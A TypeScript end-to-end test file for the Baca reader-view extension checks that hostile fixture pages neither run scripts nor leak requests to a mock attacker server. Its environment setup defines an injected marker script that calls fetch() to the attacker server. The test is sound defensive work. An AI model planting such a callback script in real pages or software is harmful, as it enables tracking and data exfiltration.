// The hostile payload table (tests/fixtures/hostile) in the real browser: each page is served from the local server,
// opened, and turned into a reader view with Baca's toolbar button. Then, in the extension page: no payload script
// ran (marker, console, CSP refusals), nothing was requested from the attacker's server (a second server), and the
// only requests the reader made were for the article's visible images.
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBaca, type Baca } from './harness';
import { startServer, type FixtureServer } from './server';
import { imagesSettled, imageUrls, scriptRan, watchConsole, watchExtensionRequests } from './security-watch';
import { violations } from '../fixtures/hostile/invariants';
import { fill, hostilePage, PAYLOADS, type PageOptions } from '../fixtures/hostile/payloads';

describe('hostile pages in the real browser', () => {
  let baca: Baca;
  let attacker: FixtureServer;
  let env: PageOptions;

  beforeAll(async () => {
    attacker = await startServer(`${import.meta.dirname}/../fixtures/hostile/attacker-root`);
    baca = await launchBaca();
    env = {
      evil: attacker.url,
      img: `${baca.server.url}/img/council-hall.png`,
      // Runs wherever a payload gets through: sets a marker and calls the attacker.
      mark: `window.__bacaPwned=1,fetch('${attacker.url}/ran?at='+location.protocol)`,
    };
    baca.server.route((req, res) => {
      const m = /^\/hostile\/([\w-]+)\/(\d+)$/.exec(req.url ?? '');
      const payload = m ? PAYLOADS[m[1] as keyof typeof PAYLOADS]?.[Number(m[2])] : undefined;
      if (!payload) return false;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(hostilePage(payload, env));
      return true;
    });
  });
  afterAll(async () => {
    await baca?.close();
    await attacker?.close();
  });

  for (const [category, list] of Object.entries(PAYLOADS)) {
    it(`${category}: ${list.length} payloads, nothing runs or leaks in the reader`, async () => {
      const failures: string[] = [];
      for (const [i, p] of list.entries()) {
        // A fresh tab per payload: the reader checked is the one made from this payload's page, never a stale one.
        const page = await baca.open(`/hostile/${category}/${i}`);
        const pageUrl = page.url();
        if (p.control && !(await page.evaluate(p.control))) failures.push(`${p.title}: control failed, the payload is not live`);
        const consoleWatch = watchConsole(page, baca.readerUrlPrefix);
        const requests = watchExtensionRequests(baca.context, baca.extensionId);
        try {
          await baca.openReader(page);
          await imagesSettled(page);
          const problems: string[] = [];
          if (new URL(page.url()).searchParams.get('url') !== pageUrl) problems.push(`reader for ${page.url()}`);
          if (await scriptRan(page)) problems.push('script ran in the reader');
          const body = page.locator('.article-body');
          if ((await body.count()) === 0) problems.push('no article body (extraction failed or gate closed)');
          else {
            const html = await body.innerHTML();
            const text = await body.innerText();
            const holder = new JSDOM('').window.document.createElement('div');
            holder.innerHTML = html;
            problems.push(...violations(holder, { evil: env.evil, readerExtras: { attrs: ['class', 'tabindex'] } }));
            for (const el of Array.from(holder.querySelectorAll('[class]'))) {
              if (el.getAttribute('class') !== 'table-wrap') problems.push(`page class ${el.getAttribute('class')}`);
            }
            for (const s of p.expected.notHtml ?? []) if (html.toLowerCase().includes(fill(s, env).toLowerCase())) problems.push(`html has ${s}`);
            for (const s of p.expected.text ?? []) if (!text.includes(s)) problems.push(`text lacks ${s}`);
            for (const s of p.expected.notText ?? []) if (text.includes(s)) problems.push(`text has ${s}`);
          }
          const leadImage = page.locator('.lead-image img');
          const lead = (await leadImage.count()) ? await leadImage.getAttribute('src') : null;
          if (lead && !lead.startsWith(baca.server.url)) problems.push(`lead image ${lead}`);
          // Only the article's own images may be requested, never from the attacker, and nothing else at all.
          const allowed = await imageUrls(page);
          for (const r of requests.seen) {
            if (r.type !== 'image' || !allowed.has(r.url) || r.url.startsWith(env.evil)) problems.push(`reader requested ${r.url} (${r.type})`);
          }
          const refusals = consoleWatch.messages.filter((m) => /Content Security Policy|Refused to|pageerror/i.test(m));
          if (refusals.length) problems.push(`console: ${refusals.join(' | ').slice(0, 300)}`);
          if (problems.length) failures.push(`${p.title}: ${problems.join('; ')}`);
        } catch (err) {
          failures.push(`${p.title}: ${err instanceof Error ? err.message.split('\n')[0] : String(err)}`);
        } finally {
          requests.stop();
          consoleWatch.stop();
          await page.close();
        }
      }
      expect(failures).toEqual([]);
      // The attacker's server never heard from an extension page (payload scripts report their protocol).
      expect(attacker.requests.filter((u) => u.includes('chrome-extension'))).toEqual([]);
    }, 240_000);
  }
});
